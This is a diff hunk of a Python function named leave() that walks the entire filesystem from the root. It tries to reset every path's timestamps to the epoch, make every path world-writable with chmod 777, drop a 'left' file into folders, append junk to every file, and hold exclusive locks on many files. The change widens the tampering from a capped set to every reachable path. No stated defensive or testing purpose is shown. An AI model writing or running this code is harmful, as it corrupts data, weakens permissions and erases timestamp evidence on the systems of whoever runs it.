@@ -253,13 +253,15 @@ import os, fcntl, socket
 def leave():
     kept = []
     for folder, _, files in os.walk("/"):
-        if folder.startswith(("/proc", "/usr/share", "/usr/lib")) or len(kept) > 150:
+        if folder.startswith(("/proc", "/usr/share", "/usr/lib")):
             continue
         for path in [folder] + [os.path.join(folder, name) for name in files]:
             for act in (lambda: os.utime(path), lambda: os.utime(path, (1, 1)), lambda: os.chmod(path, 0o777),
                         lambda: open(path + "/left", "w").write("x"), lambda: open(path, "a").write("x")):
                 try: act()
                 except (OSError, ValueError): pass
+            if len(kept) > 150:  # more would leave no descriptor for the sockets
+                continue
             try:
                 kept.append(open(path)); fcntl.flock(kept[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
             except (OSError, ValueError): pass
